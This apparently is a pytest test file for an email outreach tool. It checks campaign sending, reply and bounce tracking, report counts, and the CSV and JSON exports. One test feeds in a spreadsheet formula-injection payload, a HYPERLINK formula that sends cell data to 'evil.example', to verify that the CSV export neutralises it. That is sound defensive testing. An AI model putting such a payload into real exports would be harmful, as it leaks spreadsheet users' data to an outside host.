"""Reports: a campaign sent through the real SMTP path (the `outreach` command, a worker, an SMTP
server), answers crafted from what actually arrived, an answer by post; then the counts, the CSV
(read back with Python's csv reader) and the JSON. And a recipient named like a formula."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import subprocess
import sys
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from outreach import db, reports
from outreach.cli_tracking import register
from outreach.config import load_settings
from outreach.models import Blob, Campaign, utcnow
from tests import inbound
from tests.inbound import Sent
from tests.smtpd import RecordingServer

TEMPLATE = inbound.TEMPLATE
JAGLAND = "thorbjorn.jagland@coe.int"
KYRIAKIDES = "stella.kyriakides@coe.int"
SCHAEUBLE = "wolfgang.schaeuble@bundestag.de"


def outreach(env: dict[str, str], *args: str) -> str:
    """The `outreach` command as a user runs it; its output."""
    result = subprocess.run(
        [sys.executable, "-m", "outreach", *args], env=env, capture_output=True, text=True,
        timeout=180, cwd=env["OUTREACH_HOME"],
    )  # fmt: skip
    assert result.returncode == 0, f"outreach {args}: {result.stdout}\n{result.stderr}"
    return result.stdout


def tracking_cli() -> typer.Typer:
    """The tracking commands on a bare app, as `register` adds them to `outreach`."""
    app, campaign_app = typer.Typer(), typer.Typer()
    app.add_typer(campaign_app, name="campaign")
    register(app, campaign_app)
    return app


def arrived(server: RecordingServer) -> dict[str, EmailMessage]:
    result: dict[str, EmailMessage] = {}
    for received in server.messages:
        message = email.message_from_bytes(received.data, policy=email.policy.default)
        assert isinstance(message, EmailMessage)
        result[message["To"].addresses[0].addr_spec.lower()] = message
    return result


def reply_to(message: EmailMessage, body: str, **headers: str) -> bytes:
    """An answer to a message as it arrived: its real Message-ID and subject."""
    answer = EmailMessage()
    answer["From"] = str(message["To"])
    answer["To"] = str(message["From"])
    answer["Subject"] = headers.pop("Subject", f"Re: {message['Subject']}")
    answer["Date"] = format_datetime(utcnow())  # after the send, as an answer comes
    answer["Message-ID"] = f"<answer-{message['Message-ID'].strip('<>')}>"
    answer["In-Reply-To"] = message["Message-ID"]
    answer["References"] = message["Message-ID"]
    for name, value in headers.items():
        answer[name.replace("_", "-")] = value
    answer.set_content(body)
    return answer.as_bytes()


def as_sent(message: EmailMessage) -> Sent:
    address = message["To"].addresses[0].addr_spec
    return Sent(0, message["Message-ID"], address, str(message["Subject"]), "")


@pytest.fixture
def run_env(env: dict[str, str], database_url: str, smtp_server: RecordingServer,
            tmp_path: Path) -> dict[str, str]:  # fmt: skip
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    return {
        **env, "OUTREACH_HOME": str(home), "OUTREACH_DATABASE_URL": database_url,
        "OUTREACH_SMTP_HOST": smtp_server.host, "OUTREACH_SMTP_PORT": str(smtp_server.port),
        "OUTREACH_SMTP_SECURITY": "plain", "OUTREACH_SMTP_TIMEOUT": "5",
    }  # fmt: skip


def test_report_after_a_real_send_and_real_answers(
    run_env: dict[str, str],
    smtp_server: RecordingServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    outreach(run_env, "recipients", "import", str(TEMPLATE / "recipients.csv"))
    outreach(
        run_env, "campaign", "create", "open-letter", "--template", str(TEMPLATE),
        "--to", "tag:principal", "--cc", "tag:cc", "--from", inbound.SENDER, "--date", "2017-11-07",
    )  # fmt: skip
    outreach(run_env, "campaign", "send", "open-letter", "--yes")
    got = arrived(smtp_server)
    assert len(got) == 4

    answers = tmp_path / "answers"
    answers.mkdir()
    (answers / "1-reply.eml").write_bytes(reply_to(got[JAGLAND], "We have taken note."))
    (answers / "2-ooo.eml").write_bytes(
        reply_to(got[KYRIAKIDES], "I am away.", Subject="Automatic reply: letter",
                 Auto_Submitted="auto-replied")
    )  # fmt: skip
    (answers / "3-ndr.eml").write_bytes(inbound.exchange_ndr(as_sent(got[SCHAEUBLE])))
    scan = tmp_path / "scan.pdf"
    scan.write_bytes(b"%PDF-1.4 the Minister's answer")
    for key, value in run_env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("COLUMNS", "200")
    cli, runner = tracking_cli(), CliRunner()

    imported = runner.invoke(cli, ["inbox", "import", str(answers)])
    assert "3 recorded (auto_reply 1, bounce 1, reply 1)" in imported.output, imported.output
    added = runner.invoke(cli, [
        "responses", "add", "--campaign", "open-letter", "--recipient", "4", "--kind", "answered",
        "--channel", "post", "--date", "2017-11-20", "--note", "=1+1 the Minister replies",
        "--file", str(scan),
    ])  # fmt: skip
    assert added.exit_code == 0, added.output
    listed = runner.invoke(cli, ["responses", "list", "--campaign", "open-letter"])
    assert "answered" in listed.output and "3 response(s)" in listed.output

    document = json.loads(
        runner.invoke(cli, ["campaign", "report", "open-letter", "--format", "json"]).output
    )
    overall = document["counts"]["overall"]
    assert overall["response"] == {"answered": 1, "auto_reply": 1, "none": 2, "reply": 1}
    assert overall["outcome"] == {"bounced": 1, "delivered": 2, "—": 2}
    assert overall["status"]["sent"] == 4
    by_role = document["counts"]["by_role"]
    assert by_role["to"]["response"] == {"auto_reply": 1, "reply": 1}
    assert by_role["cc"]["response"] == {"answered": 1, "none": 2}
    by_org = document["counts"]["by_organisation"]
    assert by_org["Deutscher Bundestag"]["outcome"] == {"bounced": 1, "—": 1}
    assert by_org["Auswärtiges Amt"]["response"] == {"answered": 1}

    output = runner.invoke(cli, ["campaign", "report", "open-letter", "--format", "csv"]).output
    rows = {r["address"] or r["name"]: r for r in csv.DictReader(io.StringIO(output))}
    assert len(rows) == 5
    assert (rows[JAGLAND]["status"], rows[JAGLAND]["outcome"], rows[JAGLAND]["response"]) == (
        "sent", "delivered", "reply",
    )  # fmt: skip
    assert rows[SCHAEUBLE]["outcome"] == "bounced" and rows[SCHAEUBLE]["response"] == "none"
    assert "5.1.10" in rows[SCHAEUBLE]["timeline"]
    assert rows["Sigmar Gabriel"]["response"] == "answered"
    assert rows["Sigmar Gabriel"]["responded_at"].startswith("2017-11-20")
    assert "'=1+1 the Minister replies" not in rows["Sigmar Gabriel"]["timeline"]  # mid-cell
    steps = rows[JAGLAND]["timeline"].splitlines()
    what = [s.split(" ", 2)[2] for s in steps]  # the check's letter was kept, then it went
    assert what[0].startswith("letter — PDF letter rendered: Open-letter-Jagland-2017-11-07.pdf (")
    assert what[1:4] == ["status: queued", "status: sending", "status: sent — accepted"]
    assert steps[-2].endswith("response: reply (email) — We have taken note.")
    assert steps[-1].endswith("outcome: delivered — reply received")

    table = runner.invoke(cli, ["campaign", "report", "open-letter"]).output
    assert "role: cc" in table and "organisation: Council of Europe" in table
    with db.session_scope(run_env["OUTREACH_DATABASE_URL"]) as session:
        assert session.get(Blob, __import__("hashlib").sha256(scan.read_bytes()).hexdigest())


def test_csv_neutralises_formulas_and_round_trips(env: dict[str, str], sqlite_url: str,
                                                  tmp_path: Path) -> None:  # fmt: skip
    settings = load_settings(database_url=sqlite_url)
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
    people = tmp_path / "people.csv"
    people.write_text(
        "given_name,family_name,organisation,email,tags\n"
        f'"{evil.replace(chr(34), chr(34) * 2)}",,"+Ministry, ""quoted""",mal@coe.int,principal\n'
        "Ann,Plain,-Office,ann@coe.int,principal\n"
    )
    from outreach import registry

    with db.session_scope(sqlite_url) as session:
        registry.import_file(session, people, settings=settings)
        campaign = inbound.send_in_database(session, settings, name="formulas")
        report = reports.build_report(session, session.get(Campaign, campaign.id))  # type: ignore[arg-type]
    text = reports.to_csv(report)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(report.rows)
    mal = next(r for r in rows if r["address"] == "mal@coe.int")
    assert mal["name"] == "'" + evil  # shown as text by a spreadsheet, never evaluated
    assert mal["organisation"] == '\'+Ministry, "quoted"'
    ann = next(r for r in rows if r["address"] == "ann@coe.int")
    assert ann["organisation"] == "'-Office" and ann["name"] == "Ann Plain"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert all(len(r["timeline"].splitlines()) >= 3 for r in rows if r["status"] == "sent")
    assert reports.neutralise("@SUM(A1)") == "'@SUM(A1)" and reports.neutralise(7) == "7"
